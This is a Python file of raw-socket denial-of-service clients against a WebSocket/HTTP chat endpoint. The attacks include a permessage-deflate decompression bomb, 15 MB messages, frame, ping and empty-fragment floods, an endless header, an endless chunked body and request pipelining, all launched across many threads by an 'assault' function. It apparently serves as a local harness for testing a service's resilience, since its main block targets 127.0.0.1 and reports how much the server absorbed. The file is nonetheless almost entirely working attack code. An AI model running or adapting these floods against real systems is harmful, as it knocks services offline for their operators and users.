"""Clients that mean harm: raw sockets, since libraries would not send such things.

`Raw` speaks just enough HTTP and WebSocket to say anything at all. The attacks are plain functions over a
host, a port and a path; each returns when it was refused, when it ran out of things to send, or at `until`
(seconds of the monotonic clock). None of them shows a key.
"""

from __future__ import annotations

import base64
import contextlib
import json
import os
import socket
import struct
import sys
import threading
import time
import zlib
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass

CONT, TEXT, BINARY, CLOSE, PING, PONG = 0, 1, 2, 8, 9, 10
SOURCE = "127.0.0.2"  # another loopback address than the neighbours'


@dataclass(frozen=True)
class Target:
    """Where the service listens; `path` begins with a slash."""

    host: str
    port: int
    path: str = "/api/chat"


def frame(opcode: int, data: bytes, *, final: bool = True, compressed: bool = False) -> bytes:
    """One masked frame, with a mask of zeros."""
    head = bytes([(0x80 if final else 0) | (0x40 if compressed else 0) | opcode])
    if len(data) < 126:
        size = bytes([0x80 | len(data)])
    elif len(data) < 65_536:
        size = bytes([0x80 | 126]) + struct.pack(">H", len(data))
    else:
        size = bytes([0x80 | 127]) + struct.pack(">Q", len(data))
    return head + size + bytes(4) + data


class Raw:
    """A connection from `source`. Raises OSError like its socket."""

    made = 0  # connections, and bytes that were taken from all of them
    taken = 0

    def __init__(self, target: Target, source: str = SOURCE) -> None:
        self.target = target
        self.socket = socket.create_connection((target.host, target.port), 10, source_address=(source, 0))
        Raw.made += 1

    def __enter__(self) -> Raw:
        return self

    def __exit__(self, *_: object) -> None:
        self.socket.close()

    def request(self, *headers: str, method: str = "GET", end: bool = True) -> None:
        lines = [f"{method} {self.target.path} HTTP/1.1", f"Host: {self.target.host}", *headers]
        self.socket.sendall("\r\n".join([*lines, "", ""] if end else [*lines, ""]).encode())

    def upgrade(self, *headers: str) -> str:
        """Asks for a WebSocket; the head of the answer."""
        key = base64.b64encode(os.urandom(16)).decode()
        self.request(
            *("Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Version: 13"),
            *(f"Sec-WebSocket-Key: {key}", *headers),
        )
        return self.head()

    def pour(self, data: bytes) -> None:
        """Sends all of `data`; waits as long as the socket's timeout for a server that does not read."""
        left = memoryview(data)
        while left:
            sent = self.socket.send(left)
            Raw.taken += sent
            left = left[sent:]

    def head(self) -> str:
        """Reads up to the end of an answer's head, byte by byte."""
        read = b""
        while not read.endswith(b"\r\n\r\n"):
            byte = self.socket.recv(1)
            if not byte:
                break
            read += byte
        return read.decode("latin-1")

    def frames(self) -> Iterator[tuple[int, bytes]]:
        """What the server sends, until it hangs up."""
        stream = self.socket.makefile("rb")
        with contextlib.suppress(OSError):
            while len(head := stream.read(2)) == 2:
                size = head[1] & 127
                if size == 126:
                    (size,) = struct.unpack(">H", stream.read(2))
                elif size == 127:
                    (size,) = struct.unpack(">Q", stream.read(8))
                yield head[0] & 15, stream.read(size)

    def close_code(self) -> int | None:
        """The code of the server's close; None when it just hangs up."""
        for opcode, data in self.frames():
            if opcode == CLOSE:
                return int(struct.unpack(">H", data[:2])[0]) if data else 1005
        return None


def deflate_bomb(target: Target, until: float) -> None:
    """Frames of 15 KB that inflate to 15 MB each, whether or not compression was agreed on."""
    squeezer = zlib.compressobj(9, zlib.DEFLATED, -12)
    body = (squeezer.compress(bytes(15_000_000)) + squeezer.flush(zlib.Z_SYNC_FLUSH))[:-4]
    with contextlib.suppress(OSError), Raw(target) as raw:
        raw.upgrade("Sec-WebSocket-Extensions: permessage-deflate; client_max_window_bits")
        for _ in range(40):
            raw.pour(frame(BINARY, body, compressed=True))
        _linger(raw, until)


def big_messages(target: Target, until: float) -> None:
    """Messages of 15 MB."""
    data = frame(BINARY, b"\x01" + bytes(15_000_000))
    with contextlib.suppress(OSError), Raw(target) as raw:
        raw.upgrade()
        while time.monotonic() < until:
            raw.pour(data)


def small_frames(target: Target, until: float) -> None:
    """Pings of ours (kind 6) as fast as they go."""
    _pour(target, until, frame(BINARY, b"\x06") * 4_000)


def empty_fragments(target: Target, until: float) -> None:
    """One message that never ends, in fragments that hold nothing."""
    _pour(target, until, frame(CONT, b"", final=False) * 4_000, first=frame(BINARY, b"", final=False))


def pings(target: Target, until: float) -> None:
    """WebSocket pings whose answers nobody reads."""
    _pour(target, until, frame(PING, bytes(125)) * 1_000)


def large_audio(target: Target, until: float) -> None:
    """Messages just below the limit as fast as they go."""
    _pour(target, until, frame(BINARY, b"\x01" + bytes(131_000)))


def endless_header(target: Target, until: float) -> None:
    """A header line without an end."""
    with contextlib.suppress(OSError), Raw(target) as raw:
        raw.pour(f"GET {target.path} HTTP/1.1\r\nHost: x\r\nX-Long: ".encode())
        while time.monotonic() < until:
            raw.pour(b"a" * 65_536)


def endless_body(target: Target, until: float) -> None:
    """A body of chunks without an end, to a path that is slow to answer."""
    with contextlib.suppress(OSError), Raw(target) as raw:
        raw.request("Transfer-Encoding: chunked", method="POST")
        while time.monotonic() < until:
            raw.pour(b"10000\r\n" + bytes(65_536) + b"\r\n")


def pipeline(target: Target, until: float) -> None:
    """Requests without waiting for answers, which nobody reads."""
    with contextlib.suppress(OSError), Raw(target) as raw:
        while time.monotonic() < until:
            raw.pour(f"GET {target.path} HTTP/1.1\r\nHost: x\r\n\r\n".encode() * 2_000)


Attack = Callable[[Target, float], None]
FLOODS: tuple[Attack, ...] = (
    *(deflate_bomb, big_messages, small_frames, empty_fragments, pings, large_audio),
    *(endless_header, endless_body, pipeline),
)


def assault(attacks: Sequence[Attack], target: Target, connections: int, seconds: float) -> None:
    """`connections` of each at once, begun again whenever they were refused, for so long at least."""
    until = time.monotonic() + seconds

    def again(attack: Attack) -> None:
        while time.monotonic() < until:
            with contextlib.suppress(OSError):
                attack(target, until)
            time.sleep(0.02)

    each = [attack for attack in attacks for _ in range(connections)]
    threads = [threading.Thread(target=again, args=(attack,), daemon=True) for attack in each]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(seconds + 15)


def _pour(target: Target, until: float, data: bytes, first: bytes = b"") -> None:
    with contextlib.suppress(OSError), Raw(target) as raw:
        raw.upgrade()
        raw.socket.settimeout(2)  # a service that reads no more than it should lets us wait
        raw.pour(first)
        while time.monotonic() < until:
            raw.pour(data)


def _linger(raw: Raw, until: float) -> None:
    while time.monotonic() < until and raw.socket.recv(65_536):
        pass


if __name__ == "__main__":  # a process of its own, so that its work is not the neighbours'
    names, port, connections, seconds = sys.argv[1:]
    chosen = [attack for attack in FLOODS if attack.__name__ in names.split(",")]
    print("ready", flush=True)
    sys.stdin.readline()
    assault(chosen, Target("127.0.0.1", int(port)), int(connections), float(seconds))
    print(json.dumps({"connections": Raw.made, "mb_taken": Raw.taken / 1e6}), flush=True)
